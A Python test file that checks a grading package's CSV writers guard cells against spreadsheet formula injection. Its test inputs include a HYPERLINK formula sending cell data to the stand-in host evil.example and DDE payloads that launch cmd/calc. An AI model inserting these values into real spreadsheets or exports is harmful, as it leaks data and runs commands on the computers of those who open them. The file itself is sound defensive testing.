"""No cell of a CSV the project writes is a formula: every writer is spreadsheet.py's, which guards every cell
(a text starting with =, +, -, @, a tab or a carriage return is written after a quote), while numbers and
Moodle's lone "-" stay as they are. Each writer is fed a formula in every text it takes: ids, names, messages,
mistake names, notes, headers. changes.csv's message columns were written raw."""

from __future__ import annotations

import ast
import csv
import io
from datetime import datetime, timezone
from pathlib import Path

import pytest

import course_config
from graders.frontends.grade import lms
from graders.frontends.grade.lms.canvas import canvas_csv
from graders.frontends.grade.lms.platform import GradeImport
from graders.frontends.grade.outputs import regrade, tables
from graders.frontends.grade.outputs.similarity import Pair, similarity_csv
from graders.frontends.grade.spreadsheet import FORMULA_STARTS, cell
from graders.frontends.grade.store import StudentRecord
from graders.frontends.grade.term import decisions
from graders.frontends.grade.term.standing import Person, Standing, build_standings

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
EVILS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
         "ok\r=1+1", "\n=1+1"]  # a lone \r ends a row in some spreadsheets: what follows it starts a cell
LESSON = course_config.LESSON_01
PACKAGE = course_config.ROOT / "graders"


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]


def _assert_no_formula(text: str, what: str) -> None:
    __tracebackhide__ = True
    assert "\r" not in text, f"{what} holds a carriage return, a row's end to some spreadsheets: {text!r}"
    cells = _cells(text)
    formulas = [value for value in cells if value.startswith(FORMULA_STARTS) and cell(value) != value]
    assert not formulas, f"{what} holds cells a spreadsheet would run: {formulas}"
    for evil in EVILS:
        shown = evil.replace("\r", "\n")
        assert any(shown in value for value in cells), f"{what} lost the text {evil!r} (it must show, as text)"


def _changes(evil: str) -> list[regrade.Change]:
    return [regrade.Change(evil, evil, evil, 1.0, 0.0, True, False, evil, evil),
            regrade.Change("ann", "views", "as_grid", 1.0, 2.0, False, True, f"before {evil}", evil)]


def test_changes_csv_guards_its_message_columns() -> None:
    text = regrade.changes_csv([change for evil in EVILS for change in _changes(evil)])
    _assert_no_formula(text, "changes.csv")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["message_before"] == "'" + EVILS[0] and row["change"] == "-1" and row["before"] == "1", row


def test_similarity_csv_guards_every_cell() -> None:
    text = similarity_csv([Pair(evil, evil, evil + "x", 0.9, [(1, 2)], [(3, 3)]) for evil in EVILS])
    _assert_no_formula(text, "similarity.csv")


def test_mistakes_csv_guards_mistake_names_and_ids() -> None:
    stats = []
    for evil in EVILS:
        entry = tables.CheckStats(evil, evil, False, 1.0, students=2, passed=1)
        entry.mistakes[evil] += 1
        stats.append(entry)
    _assert_no_formula(tables.mistakes_csv(stats, 2), "mistakes.csv")


def _standings() -> list[Standing]:
    people = [Person(evil, evil, evil, evil, evil, evil) for evil in EVILS]
    return [Standing(student=f"{number}", person=person, handed_in=True, raw=5.0, max_score=10.0, final=5.0,
                     notes=[EVILS[number]], private=[EVILS[number]])
            for number, person in enumerate(people)]


def test_grades_csv_guards_every_text_it_takes() -> None:
    records = [StudentRecord.from_dict({"student": evil, "score": 1.0, "max_score": 10.0, "exercises": [],
                                        "problems": [evil], "integrity": [evil], "error": evil}) for evil in EVILS]
    standings = {s.person.id: Standing(**{**s.__dict__, "student": s.person.id}) for s in _standings()}
    _assert_no_formula(tables.grades_csv(records, LESSON, standings), "grades.csv")


@pytest.mark.parametrize("export", lms.grade_imports(), ids=lambda export: export.file)
def test_every_lms_export_guards_names_notes_and_its_header(export: GradeImport) -> None:
    text = export.write(_standings(), EVIL, 10.0, {})
    assert "\r" not in text, text
    cells = _cells(text)
    assert not [value for value in cells if value.startswith(FORMULA_STARTS) and cell(value) != value], cells
    assert "'" + EVIL in cells, f"the assignment's column {EVIL!r} should be written as text"


def test_the_ledger_guards_every_cell(tmp_path: Path) -> None:
    ledger = tmp_path / "decisions.csv"
    for evil in EVILS:
        decisions.append(ledger, decisions.Decision(datetime(2026, 1, 5, tzinfo=timezone.utc), evil, evil,
                                                    "regrade_request", "views", evil, evil))
    _assert_no_formula(ledger.read_text(), "decisions.csv")


def test_numbers_and_moodles_dash_are_written_as_they_are() -> None:
    assert [cell(v) for v in (-2, -0.5, 1e-05, "+1", "-3.25", "7", "-", "", None, True, "EX")] == \
           ["-2", "-0.5", "1e-05", "+1", "-3.25", "7", "-", "", "", "True", "EX"]
    assert [cell(v) for v in ("-inf", "=1+1", "-1-1", "- see e-mail", "'=x", "+٣", "a\r\nb\rc")] == \
           ["'-inf", "'=1+1", "'-1-1", "'- see e-mail", "'=x", "'+٣", "a\nb\nc"]


def test_every_csv_the_package_writes_goes_through_the_guard() -> None:
    # A new csv.writer anywhere else would write its cells as they come: the guard must be the only way out.
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if path.name == "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv" \
                    and node.attr in ("writer", "DictWriter"):
                found.append(f"{path.relative_to(course_config.ROOT)}:{node.lineno} csv.{node.attr}")
    assert not found, f"CSV written past spreadsheet.guarded_writer / GuardedDictWriter: {found}"


def _record(student: str, **scores: float) -> StudentRecord:
    exercises = [{"slug": slug, "score": points, "max_score": 10.0, "checks": []} for slug, points in scores.items()]
    return StudentRecord.from_dict({"student": student, "score": sum(scores.values()), "max_score": 20.0,
                                    "exercises": exercises, "problems": [], "error": ""})


def test_grades_csv_and_the_lms_files_write_a_formula_like_id_as_text() -> None:
    evil = '=cmd|" /C calc"!A0'
    records = [_record(evil, views=5.0)]
    standings = build_standings(records, 100.0, roster={evil: Person(evil, name="@SUM(1+1)")})
    grades = list(csv.DictReader(io.StringIO(tables.grades_csv(records, course_config.LESSON_01, standings))))
    assert grades[0]["student"] == f"'{evil}" and grades[0]["name"] == "'@SUM(1+1)" and grades[0]["score"] == "5"
    canvas = list(csv.reader(io.StringIO(canvas_csv(list(standings.values()), "lesson01", 100.0))))
    assert canvas[2][:2] == ["'@SUM(1+1)", f"'{evil}"]
